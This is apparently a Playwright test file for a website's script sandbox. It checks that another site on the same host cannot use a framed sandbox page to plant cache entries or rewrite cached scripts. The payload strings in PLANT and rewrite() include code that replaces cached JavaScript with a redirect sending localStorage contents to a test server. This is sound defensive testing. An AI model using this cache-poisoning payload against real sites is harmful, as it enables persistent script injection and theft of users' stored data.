/**
 * Another site on the same host, which frames the sandbox's page as any page may, and the data stored on the device.
 */
import type { Page } from '@playwright/test';
import { counting } from './counting.ts';
import { test, visit } from './own-site.ts';
import { address, expect, Figure } from './site.ts';

test.use({ expectedErrors: [/ERR_CONNECTION_REFUSED|ERR_FAILED|Failed to (?:load|fetch)|net::ERR/] });

/**
 * Frames the sandbox's page without `sandbox` and then, for comparison, with it; passes a script to both. @returns the
 * messages of each
 */
const handIn = (page: Page, url: string, script: string): Promise<{ bare: unknown[]; walled: unknown[] }> =>
  page.evaluate(
    async ({ url, script }) => {
      const frameOf = async (attributes: Record<string, string>) => {
        const frame = document.createElement('iframe');
        for (const [name, value] of Object.entries(attributes)) frame.setAttribute(name, value);
        frame.src = url;
        const loaded = new Promise((done) => {
          frame.onload = done;
        });
        document.body.append(frame);
        await loaded;
        const { port1, port2 } = new MessageChannel();
        const heard: unknown[] = [];
        const first = new Promise((done) => {
          port1.onmessage = ({ data }) => {
            heard.push(data.data);
            done(undefined);
          };
        });
        frame.contentWindow?.postMessage({ script, wasm: new ArrayBuffer(0), files: {} }, '*', [port2]);
        return { heard, first };
      };
      const bare = await frameOf({});
      const walled = await frameOf({ sandbox: 'allow-scripts' });
      await walled.first;
      // The first one had its script before the second had its page; it gets as long again, and a second more.
      await Promise.race([bare.first, new Promise((done) => setTimeout(done, 1000))]);
      return { bare: bare.heard, walled: walled.heard };
    },
    { url, script },
  );

/** Reports whether it runs with the origin of a site with stored data, and leaves a trace there. */
const PLANT = `onmessage = async () => {
  try {
    await (await caches.open('planted')).put(self.origin + '/planted', new Response('planted'));
    postMessage('runs as a part of ' + self.origin);
  } catch {
    postMessage('runs as a part of nothing');
  }
};`;

test.describe('a page that frames the sandbox bare has no script run by it', () => {
  for (const [from, openFrom] of [
    ['another site of the host', (page: Page, other: string) => page.goto(other)],
    ['the notes themselves', (page: Page) => page.goto('./notation/')],
  ] as const)
    test(`from ${from}`, async ({ page }) => {
      await counting(async (server) => {
        await openFrom(page, server.page);
        const said = await handIn(page, `${address()}sandbox/python.html`, PLANT);
        expect(said).toEqual({ bare: [], walled: ['runs as a part of nothing'] });
        await page.goto('./notation/');
        expect(await page.evaluate(() => caches.has('planted'))).toBe(false);
      });
    });
});

/** Adds a script that steals the site's stored data to every cached script, and returns their number. */
const rewrite = (where: string): string => `onmessage = async () => {
  let count = 0;
  try {
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const { url } of await cache.keys()) {
        if (!url.endsWith('.js')) continue;
        const leak = "location.href = '${where}?' + encodeURIComponent(JSON.stringify(localStorage))";
        await cache.put(url, new Response(leak, { headers: { 'content-type': 'text/javascript' } }));
        count += 1;
      }
    }
    postMessage(count);
  } catch {
    postMessage('reaches nothing');
  }
};`;

test('the whole way: a page is visited, another site would rewrite its scripts, the reader comes again, and no answer leaves', async ({
  page,
  own,
}) => {
  await counting(async (server) => {
    await visit(page, `${own.address}gradient-descent/`);
    await page.evaluate(() => localStorage.setItem('answers', 'of a student'));
    await page.goto(server.page);
    const said = await handIn(page, `${own.address}sandbox/python.html`, rewrite(server.where));
    await page.goto(`${own.address}gradient-descent/`);
    await new Figure(page, 'gabor-descent').live();
    expect({ ...said, reached: server.count() }).toEqual({ bare: [], walled: ['reaches nothing'], reached: 0 });
  });
});
